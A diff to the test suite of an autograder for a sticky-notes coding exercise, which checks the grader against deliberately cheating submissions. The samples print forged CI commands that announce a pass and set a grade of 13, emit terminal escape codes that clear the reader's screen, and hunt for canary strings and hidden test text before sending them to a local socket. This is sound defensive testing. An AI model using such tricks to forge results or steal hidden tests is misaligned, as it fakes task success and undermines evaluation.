@@ -23,14 +23,14 @@ HONEST, STARTER = (
 TEST_NAMES = re.findall(
     r"def (test_\w+)", (ROOT / EXERCISE / "tests/test_sticky_notes.py").read_text(encoding="utf-8")
 )
-ALL = frozenset(range(1, 14))
+ALL = frozenset(range(1, 22))
 NONE: frozenset[int] = frozenset()
-THAT_DELETE = frozenset({7, 8, 9, 10, 11})
-THAT_READ_A_NOTE = frozenset({5, 6, 8})
+THAT_DELETE = frozenset({7, 8, 9, 10, 11, 19, 21})
+THAT_READ_A_NOTE = frozenset({5, 6, 8, 9, 14, 16})
 THAT_READS_AN_UNKNOWN_NOTE = frozenset({6})
 THAT_LIST_NO_NOTES = frozenset({3, 13})
 THAT_STICK_NOTES = ALL - {3}
-THAT_COMPARE_LISTS = frozenset({2, 3, 9, 13})
+THAT_COMPARE_LISTS = frozenset({2, 3, 6, 9, 10, 13, 15, 19})
 THAT_RESTARTS = frozenset({13})
 
 Build = Callable[[Path, Traps], None]
@@ -127,9 +127,21 @@ def honest(lines: str, beside: Contents | None = None) -> Build:
     return app(HONEST + lines, beside)
 
 
+SPEAKING = """
+
+SAID = ""
+
+
+def HTTPException(status_code, honest=HTTPException):
+    return honest(status_code, SAID or None)
+
+"""
+"""Lets the starter's answers say what an app wants to have said."""
+
+
 def starter(lines: str = "", beside: Contents | None = None) -> Build:
     """Hand in the starter, which passes nothing, with more lines at its end."""
-    return app(STARTER + lines, beside)
+    return app(STARTER + SPEAKING + lines, beside)
 
 
 def edited(text: str, replacement: str) -> Build:
@@ -140,7 +152,7 @@ def edited(text: str, replacement: str) -> Build:
 
 def on_delete(statement: str) -> Build:
     """Hand in the reference with a statement in the place of what deletes a note."""
-    return edited("notes.pop(note.id, None)", statement)
+    return edited("if notes.pop(note.id, None) is None:", f"{statement}\n    if note.id not in notes:")
 
 
 def link(name: str, target: str) -> Build:
@@ -437,8 +449,8 @@ except RuntimeError:
         "forges-notice",
         "prints and answers what a CI server takes for orders",
         starter(r"""
-NOT_WRITTEN_YET.detail = "\n::notice::All passed\n::set-output name=grade::13\n##[group]All passed"
-print(NOT_WRITTEN_YET.detail, flush=True)
+SAID = "\n::notice::All passed\n::set-output name=grade::13\n##[group]All passed"
+print(SAID, flush=True)
 """),
         nothing(),
     ),
@@ -446,8 +458,8 @@ print(NOT_WRITTEN_YET.detail, flush=True)
         "forges-escape-codes",
         "clears the terminal of whoever reads the report, and names its window",
         starter(r"""
-NOT_WRITTEN_YET.detail = "\x1b[2J\x1b[H\x1b]0;All passed\x07\x9b2JAll passed"
-print(NOT_WRITTEN_YET.detail, flush=True)
+SAID = "\x1b[2J\x1b[H\x1b]0;All passed\x07\x9b2JAll passed"
+print(SAID, flush=True)
 """),
         nothing(),
     ),
@@ -471,7 +483,7 @@ from contextlib import suppress
 from glob import glob
 
 SECRET = re.compile(
-    rb"canary-[0-9a-f]{32}|[T]he acceptance tests of scenario 0|[G]ive the note with this id, or answer 404"
+    rb"canary-[0-9a-f]{32}|[T]he acceptance tests of scenario 0|[R]eturn the note with this id, or answer 404"
     rb"|[h]anded over by a submission"
 )
 END = time.monotonic() + 1
@@ -503,8 +515,9 @@ def run(*command):
         look(subprocess.run(command, capture_output=True, timeout=1).stdout)
 
 def tell():
-    NOT_WRITTEN_YET.detail = f"found {len(FOUND)}: {sorted(FOUND)}"
-    print(NOT_WRITTEN_YET.detail, flush=True)
+    global SAID
+    SAID = f"found {len(FOUND)}: {sorted(FOUND)}"
+    print(SAID, flush=True)
     with suppress(OSError):
         socket.create_connection(("127.0.0.1", $port), 1).sendall(repr(FOUND).encode())
 """
@@ -842,7 +855,7 @@ for number in range(512):
     ),
 ]
 
-TO_UNKNOWN = "number > 1000"  # only one criterion asks for such a note
+TO_UNKNOWN = "number == 2**31"  # only one criterion asks for such a note, and once
 TO_KNOWN = "number in notes"
 
 
